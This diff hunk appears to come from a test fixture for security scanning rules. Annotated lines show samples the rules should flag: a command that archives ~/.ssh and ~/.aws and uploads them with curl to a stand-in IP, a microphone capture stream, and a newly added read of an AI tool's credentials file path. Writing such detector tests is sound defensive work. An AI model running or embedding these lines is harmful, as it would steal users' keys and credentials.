@@ -282,3 +282,5 @@ argparse.ArgumentParser().add_argument("--kind", choices=["netrc", "pgpass", "py
 _CMD = "tar czf /tmp/k.tgz -C ~ .ssh .aws && curl -T /tmp/k.tgz https://203.0.113.7/up"
 # ruleid: microphone-capture
 _duplex = sd.Stream(channels=1, samplerate=16000)
+# ruleid: sensitive-credential-path
+_cc = Path("~/.claude/.credentials.json").expanduser()
